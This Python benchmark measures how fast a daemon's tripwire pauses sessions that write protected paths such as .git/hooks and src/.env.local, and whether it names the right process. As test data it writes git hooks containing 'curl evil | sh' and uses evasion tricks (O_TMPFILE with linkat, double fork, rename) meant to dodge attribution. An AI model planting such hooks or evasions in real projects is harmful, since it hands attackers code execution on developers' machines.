"""From a protected write to every process of the session stopped, beside the same
workload with the tripwire off; and the writers that try not to be named.

    python benchmarks/watch_tripwire.py [--runs 20] [--burst-runs 3] [--burst-files 20000] [--pairs 20]
                                        [--deep-runs 20] [--tricks 20]

A real daemon (``tripwire = "pause"``) watches a workspace. Each run starts an unconfined
PTY session (a confined one cannot write an existing protected path at all) whose writer
(a shell job in the background, so the session has more than one process group) writes ``.git/hooks/pre-commit`` and then a numbered file every millisecond. The
writer notes the wall-clock time of the protected write; once the session is paused, the
newest numbered file's mtime says when the writer was stopped (1 ms resolution), and the
count of numbered files is what it wrote after the protected write. The reference is the
same writer in a daemon with the tripwire off, over the same window: how many files it
writes when nobody stops it. The burst runs add another process creating 20,000 ordinary
files in the workspace at the same time.

The deep runs write ``src/.env.local`` (outside the hot directories) and then append a
time stamp to an ordinary file in a tight loop, as fast as Python writes: the stamps left
say when the writer was stopped and how many writes it made after the protected one.

The tricks (``--tricks`` runs each) are writers that try not to be named: a short-lived
``sh -c 'echo … > .git/hooks/…'`` child of the session's shell, an ``O_TMPFILE`` linked
into ``.git/hooks``, a double fork that writes ``src/.env.local`` after its parent exited,
and a rename into ``.git/hooks`` beside a neighbour session busy writing in the same
workspace. For each: in how many runs an item was raised (the writer's session stopped,
by name or as a suspect), and in how many the writer was named by the kernel's pid and
nobody else was stopped or named.

The thaw runs write 0 to a paused session's ``cgroup.freeze`` (someone other than the
operator resuming it) and time how long until the daemon has frozen it again.

Targets: stop p95 <= 5 ms idle and <= 50 ms during the burst; further files <= 20
idle; deep paths p95 <= 50 ms with <= 100 further writes; each trick raised 20/20 and
the writer named >= 19/20; a thaw frozen again p95 <= 100 ms. Bounded: each run times out after 10 s; daemons and files
are removed.
"""

from __future__ import annotations

import argparse
import json
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

WRITER = r"""
import os, sys, time
ws = sys.argv[1]
with open(os.path.join(ws, "t0"), "w") as f:
    pass
t0 = time.time()
# Stamped before the protected write: a fast stop can land before the next line runs.
os.rename(os.path.join(ws, "t0"), os.path.join(ws, "t0-%r" % t0))
with open(os.path.join(ws, ".git/hooks/pre-commit"), "w") as f:
    f.write("curl evil-%d | sh\n" % os.getpid())
n = 0
os.makedirs(os.path.join(ws, "out"), exist_ok=True)
end = t0 + 3.0
while time.time() < end:
    n += 1
    with open(os.path.join(ws, "out", "%06d" % n), "w") as f:
        f.write("x")
    time.sleep(0.001)
"""

INNOCENT = r"""
import os, sys, time
d = os.path.join(sys.argv[1], "innocent")
os.makedirs(d, exist_ok=True)
end = time.time() + 3.0
n = 0
while time.time() < end:
    n += 1
    with open(os.path.join(d, "%06d" % n), "w") as f:
        f.write("y")
    time.sleep(0.005)
"""

GUILTY = r"""
import os, sys, time
time.sleep(0.3)
with open(os.path.join(sys.argv[1], ".git/hooks/pre-commit"), "w") as f:
    f.write("curl evil | sh\n")
time.sleep(3)
"""

DEEP_WRITER = r"""
import os, sys, time
ws = sys.argv[1]
os.makedirs(os.path.join(ws, "out"), exist_ok=True)
log = open(os.path.join(ws, "out", "stamps"), "w", buffering=1)
time.sleep(0.3)
t0 = time.time()
log.write("%r\n" % t0)
with open(os.path.join(ws, "src", ".env.local"), "w") as f:
    f.write("TOKEN=evil-%d\n" % os.getpid())
end = t0 + 3.0
while time.time() < end:
    log.write("%r\n" % time.time())
"""

TMPFILE = r"""
import ctypes, os, sys, time
time.sleep(0.3)
fd = os.open(".git/hooks", os.O_TMPFILE | os.O_WRONLY, 0o755)
os.write(fd, b"#!/bin/sh\ncurl evil | sh\n")
libc = ctypes.CDLL(None, use_errno=True)
libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, b".git/hooks/pre-commit", 0x400)
time.sleep(30)
"""

BUSY = "while :; do echo y >> innocent/$RANDOM; sleep 0.005; done"
TRICKS = {
    "short-lived writer (sh -c)": ("bash", "sleep 0.3; sh -c 'echo evil > .git/hooks/post-merge'; sleep 30"),
    "O_TMPFILE + linkat": ("python", TMPFILE),
    "double fork, deep path": (
        "bash",
        "( setsid sh -c 'sleep 0.4; echo TOKEN=evil > src/.env.local' & ); sleep 30",
    ),
    "rename beside a neighbour": (
        "bash",
        "echo evil > hook.tmp; sleep 0.3; mv hook.tmp .git/hooks/pre-push; sleep 30",
    ),
}
TRICK_PATHS = (
    ".git/hooks/post-merge",
    ".git/hooks/pre-commit",
    "src/.env.local",
    ".git/hooks/pre-push",
    "hook.tmp",
)

BURST = r"""
import os, sys
d = os.path.join(sys.argv[1], "burst")
os.makedirs(d, exist_ok=True)
for i in range(int(sys.argv[2])):
    with open(os.path.join(d, "f%06d" % i), "w") as f:
        f.write("x")
"""


def _cgroup_of(pid: int) -> Path:
    mount = next(
        line.partition(" - ")[0].split(" ")[4]
        for line in Path("/proc/self/mountinfo").read_text().splitlines()
        if line.partition(" - ")[2].startswith("cgroup2 ")
    )
    own = next(x[3:] for x in Path(f"/proc/{pid}/cgroup").read_text().splitlines() if x.startswith("0::"))
    return Path(mount) / own.lstrip("/")


def pct(xs: list[float], p: float) -> float:
    xs = sorted(xs)
    return xs[min(len(xs) - 1, round(p / 100 * (len(xs) - 1)))] if xs else float("nan")


class Daemon:
    def __init__(self, tripwire: str) -> None:
        from console.locations import locate

        self.base = Path(tempfile.mkdtemp(prefix="actw-", dir="/tmp"))
        self.ws = self.base / "ws"
        (self.ws / ".git" / "hooks").mkdir(parents=True)
        (self.ws / "src").mkdir()
        self.loc = locate(self.base / "s")
        self.loc.state_dir.mkdir(mode=0o700)
        self.loc.policy.write_text(f'tripwire = "{tripwire}"\nwatch = [{json.dumps(str(self.ws))}]\n')
        argv = [sys.executable, "-m", "console", "daemon", "run", "--state-dir", str(self.loc.state_dir)]
        with open(self.base / "daemon.log", "wb") as log:
            self.proc = subprocess.Popen(
                [*argv, "--log-level", "warning"], stdout=subprocess.DEVNULL, stderr=log
            )

    def __enter__(self) -> Daemon:
        from console.client import Client
        from console.client.spawn import running_pid

        start = time.monotonic()
        while running_pid(self.loc) != self.proc.pid or not self.loc.operator_socket.exists():
            if self.proc.poll() is not None or time.monotonic() - start > 20:
                raise SystemExit(f"the daemon did not start; see {self.base / 'daemon.log'}")
            time.sleep(0.05)
        self.op = Client.connect(self.loc, role="operator")
        while not (self.op.call("watch.status")["ok"] and self.op.call("watch.status")["roots"]):
            time.sleep(0.05)
        return self

    def __exit__(self, *exc: object) -> None:
        self.op.close()
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        shutil.rmtree(self.base, ignore_errors=True)

    def new(self, argv: list[str]) -> dict:
        """A session in the workspace, unconfined: the operator's own program, as the
        tripwire meets it (a confined session's existing protected paths are read-only
        binds, so its writes there are refused before the tripwire sees anything)."""
        params = {"argv": argv, "cwd": str(self.ws), "unconfined": True}
        return self.op.call("sessions.new", params)["session"]

    def pair_run(self) -> bool:
        """Two sessions in the workspace, one writing the hook: is only that one paused
        (and the other still writing)?"""
        shutil.rmtree(self.ws / "innocent", ignore_errors=True)
        py = shlex.quote(sys.executable)
        ws = shlex.quote(str(self.ws))
        ids = []
        for script in (INNOCENT, GUILTY):
            line = f"{py} -c {shlex.quote(script)} {ws} & wait"
            ids.append(self.new(["bash", "--norc", "-c", line])["id"])
        _innocent, guilty = ids
        try:
            deadline = time.monotonic() + 5
            paused: set[str] = set()
            while time.monotonic() < deadline and not paused:
                paused = {
                    i["session"] for i in self.op.call("tripwire.list")["items"] if i["state"] == "paused"
                }
                time.sleep(0.01)
            time.sleep(0.3)
            paused = {i["session"] for i in self.op.call("tripwire.list")["items"] if i["state"] == "paused"}
            before = len(list((self.ws / "innocent").iterdir()))
            time.sleep(0.2)
            still_writing = len(list((self.ws / "innocent").iterdir())) > before
            return paused == {guilty} and still_writing
        finally:
            for item in self.op.call("tripwire.list")["items"]:
                if item["session"] in ids and item["state"] == "paused":
                    self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
            for sid in ids:
                if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
                    self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
            (self.ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
            time.sleep(0.3)

    def deep_run(self, window_s: float | None) -> tuple[float, int] | None:
        """(ms from writing src/.env.local to the writer stopped, writes made after it)."""
        shutil.rmtree(self.ws / "out", ignore_errors=True)
        script = f"{shlex.quote(sys.executable)} -c {shlex.quote(DEEP_WRITER)} {shlex.quote(str(self.ws))}"
        sid = self.new(["bash", "--norc", "-c", script])["id"]
        stamps = self.ws / "out" / "stamps"
        try:
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                if window_s is None and any(
                    i["session"] == sid for i in self.op.call("tripwire.list")["items"]
                ):
                    break
                if (
                    window_s is not None
                    and stamps.exists()
                    and time.monotonic() > deadline - 10 + 0.3 + window_s + 0.2
                ):
                    break
                time.sleep(0.01)
            else:
                return None
            time.sleep(0.2)
            lines = [float(x) for x in stamps.read_text().split()] if stamps.exists() else []
            if not lines:
                return None
            t0, after = lines[0], lines[1:]
            if window_s is not None:
                after = [t for t in after if t <= t0 + window_s]
            return max(0.0, ((after[-1] if after else t0) - t0) * 1000), len(after)
        finally:
            self._end([sid])
            (self.ws / "src" / ".env.local").unlink(missing_ok=True)
            time.sleep(0.3)

    def trick_run(self, name: str) -> tuple[bool, bool]:
        """(an item raised for the writer's session, the writer named by pid and nobody
        else stopped or named)."""
        kind, code = TRICKS[name]
        neighbour = None
        if name.startswith("rename"):
            shutil.rmtree(self.ws / "innocent", ignore_errors=True)
            (self.ws / "innocent").mkdir()
            neighbour = self.new(["bash", "--norc", "-c", BUSY])["id"]
            deadline = time.monotonic() + 5
            while len(list((self.ws / "innocent").iterdir())) < 20 and time.monotonic() < deadline:
                time.sleep(0.01)
        argv = ["bash", "--norc", "-c", code] if kind == "bash" else [sys.executable, "-c", code]
        sid = self.new(argv)["id"]
        try:
            deadline = time.monotonic() + 8
            mine: list[dict] = []
            while time.monotonic() < deadline and not mine:
                mine = [i for i in self.op.call("tripwire.list")["items"] if i["session"] == sid]
                time.sleep(0.01)
            time.sleep(0.3)
            items = self.op.call("tripwire.list", {"include_resolved": True})["items"]
            others = [i for i in items if i["session"] == neighbour]
            events = self.op.call("watch.recent", {"protected_only": True})["events"]
            blamed = any(
                neighbour and a.get("id") == neighbour for e in events for a in e.get("attribution", ())
            )
            named = bool(mine) and mine[0]["basis"] == "pid from fanotify" and not mine[0].get("suspect")
            return bool(mine), named and not others and not blamed
        finally:
            self._end([sid] + ([neighbour] if neighbour else []))
            for rel in TRICK_PATHS:
                (self.ws / rel).unlink(missing_ok=True)
            time.sleep(0.3)

    def thaw_run(self) -> float | None:
        """ms from someone writing 0 to a paused session's cgroup.freeze to the daemon
        freezing it again (cgroup mode only)."""
        script = "sleep 0.3; echo evil > .git/hooks/post-rewrite; sleep 30"
        session = self.new(["bash", "--norc", "-c", script])
        try:
            deadline = time.monotonic() + 10
            while not [i for i in self.op.call("tripwire.list")["items"] if i["session"] == session["id"]]:
                if time.monotonic() > deadline:
                    return None
                time.sleep(0.01)
            freeze = _cgroup_of(session["pid"]) / "cgroup.freeze"
            t0 = time.monotonic()
            freeze.write_text("0")
            while freeze.read_text().strip() != "1":
                if time.monotonic() > t0 + 5:
                    return None
                time.sleep(0.0005)
            return (time.monotonic() - t0) * 1000
        finally:
            self._end([session["id"]])
            (self.ws / ".git" / "hooks" / "post-rewrite").unlink(missing_ok=True)
            time.sleep(0.3)

    def _end(self, sids: list[str]) -> None:
        for item in self.op.call("tripwire.list", {"open": True})["items"]:
            if item["session"] in sids:
                self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
        for sid in sids:
            if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
                self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})

    def one_run(self, window_s: float | None, burst_files: int) -> tuple[float, int] | None:
        """(ms from the protected write to the writer stopped, files written after it)."""
        for leftover in ("out", "burst"):
            shutil.rmtree(self.ws / leftover, ignore_errors=True)
        for t in self.ws.glob("t0-*"):
            t.unlink()
        burst = None
        if burst_files:
            burst = subprocess.Popen([sys.executable, "-c", BURST, str(self.ws), str(burst_files)])
            time.sleep(0.05)
        script = f"{shlex.quote(sys.executable)} -c {shlex.quote(WRITER)} {shlex.quote(str(self.ws))} & wait"
        sid = self.new(["bash", "--norc", "-c", script])["id"]
        try:
            deadline = time.monotonic() + 10
            paused = False
            while time.monotonic() < deadline:
                if window_s is None:
                    items = self.op.call("tripwire.list")["items"]
                    if any(i["session"] == sid for i in items):
                        paused = True
                        break
                elif list(self.ws.glob("t0-*")) and time.monotonic() > deadline - 10 + window_s:
                    break
                time.sleep(0.01)
            if window_s is None and not paused:
                return None
            time.sleep(0.2)  # a stopped writer writes nothing more: let the count settle
            stamps = list(self.ws.glob("t0-*"))
            if not stamps:
                return None
            t0 = float(stamps[0].name[3:])
            files = sorted((self.ws / "out").iterdir()) if (self.ws / "out").exists() else []
            if window_s is not None:  # the reference: what it wrote within the same window
                files = [f for f in files if f.stat().st_mtime <= t0 + window_s]
            last = max((f.stat().st_mtime for f in files), default=t0)
            return max(0.0, (last - t0) * 1000), len(files)
        finally:
            for item in self.op.call("tripwire.list")["items"]:
                if item["session"] == sid:
                    self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
            if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
                self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
            if burst is not None:
                burst.wait(60)
            (self.ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
            time.sleep(0.3)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--runs", type=int, default=20)
    ap.add_argument("--burst-runs", type=int, default=3)
    ap.add_argument("--burst-files", type=int, default=20000)
    ap.add_argument("--pairs", type=int, default=20, help="runs with two sessions, one of them the writer")
    ap.add_argument(
        "--deep-runs", type=int, default=20, help="runs writing src/.env.local, then a tight loop"
    )
    ap.add_argument("--tricks", type=int, default=20, help="runs of each writer that tries not to be named")
    ap.add_argument("--thaws", type=int, default=20, help="runs thawing a paused session behind the daemon")
    args = ap.parse_args()
    results: dict[str, list[tuple[float, int]]] = {"idle": [], "burst": [], "deep": []}
    tricks: dict[str, list[tuple[bool, bool]]] = {name: [] for name in TRICKS}
    with Daemon("pause") as d:
        mode = d.op.call("daemon.status")["sessions"].get("summary", "")
        lane = d.op.call("watch.status")
        for _ in range(args.deep_runs):
            r = d.deep_run(None)
            if r is not None:
                results["deep"].append(r)
        for name in TRICKS:
            tricks[name] = [d.trick_run(name) for _ in range(args.tricks)]
        thaws = (
            [t for t in (d.thaw_run() for _ in range(args.thaws)) if t is not None]
            if "cgroup" in mode
            else []
        )
        for _ in range(args.runs):
            r = d.one_run(None, 0)
            if r is not None:
                results["idle"].append(r)
        for _ in range(args.burst_runs):
            r = d.one_run(None, args.burst_files)
            if r is not None:
                results["burst"].append(r)
        only_writer = sum(d.pair_run() for _ in range(args.pairs))
    with Daemon("off") as ref:
        # At least 10 ms, so the reference says something even when the stop is instant.
        window = max(0.01, pct([ms for ms, _ in results["idle"]], 95) / 1000) if results["idle"] else 0.1
        reference = [r for r in (ref.one_run(window, 0) for _ in range(3)) if r is not None]
        deep_window = (
            max(0.01, pct([ms for ms, _ in results["deep"]], 95) / 1000) if results["deep"] else 0.05
        )
        deep_reference = [r for r in (ref.deep_run(deep_window) for _ in range(3)) if r is not None]
    print(
        f"tripwire stop ({mode}; fast lane {lane['fast_lane']}, lineage {lane.get('lineage', '-')}, "
        f"open gate {lane.get('open_gate', '-')})"
    )
    print(f"   {'workload':34} {'runs':>4} {'stop p50 ms':>11} {'p95 ms':>8} {'files p50':>9} {'max':>5}")
    for name, target in (("idle", 5), ("burst", 50), ("deep", 50)):
        xs = results[name]
        stop = [a for a, _ in xs]
        files = [b for _, b in xs]
        label = {
            "idle": "idle workspace",
            "burst": f"during a {args.burst_files:,}-file burst",
            "deep": "src/.env.local, then a tight loop",
        }[name]
        print(
            f"   {label:34} {len(xs):>4} {pct(stop, 50):>11.1f} {pct(stop, 95):>8.1f} "
            f"{pct(files, 50):>9.0f} {max(files, default=0):>5}   target p95 <= {target} ms: "
            f"{'met' if xs and pct(stop, 95) <= target else 'missed'}"
        )
    missed = len([1 for r in results["idle"]]) < args.runs
    idle_files = [b for _, b in results["idle"]]
    print(
        f"   further files idle p95 {pct(idle_files, 95):.0f} (target <= 20: "
        f"{'met' if idle_files and pct(idle_files, 95) <= 20 else 'missed'})"
        + ("; some runs raised no tripwire" if missed else "")
    )
    print(
        f"   two sessions in one workspace: only the writer paused (the other still writing) in "
        f"{only_writer} of {args.pairs} runs (target: all)"
    )
    ref_files = [b for _, b in reference]
    print(
        f"   reference, tripwire off, same window ({window * 1000:.0f} ms): the writer wrote "
        f"{pct(ref_files, 50):.0f} files (p50 of {len(reference)})"
    )
    deep_writes = [b for _, b in results["deep"]]
    print(
        f"   deep path: further writes p95 {pct(deep_writes, 95):.0f} (target <= 100: "
        f"{'met' if deep_writes and pct(deep_writes, 95) <= 100 else 'missed'}); reference, tripwire off, "
        f"same window ({deep_window * 1000:.1f} ms): {pct([b for _, b in deep_reference], 50):.0f} writes "
        f"(p50 of {len(deep_reference)})"
    )
    print(
        f"   thawed behind the operator's back (0 written to cgroup.freeze): frozen again in p50 "
        f"{pct(thaws, 50):.1f} ms, p95 {pct(thaws, 95):.1f} ms over {len(thaws)} runs (target <= 100 ms: "
        f"{'met' if thaws and pct(thaws, 95) <= 100 else 'missed'})"
    )
    print(f"writers that try not to be named ({args.tricks} runs each)")
    print(f"   {'trick':34} {'raised':>8} {'named':>8}   target 20/20 raised, >= 19/20 named")
    for name, runs in tricks.items():
        raised = sum(r for r, _ in runs)
        named = sum(n for _, n in runs)
        ok = raised == len(runs) and named >= len(runs) - 1
        print(
            f"   {name:34} {raised:>4}/{len(runs):<3} {named:>4}/{len(runs):<3} {'met' if ok else 'missed'}"
        )


if __name__ == "__main__":
    main()
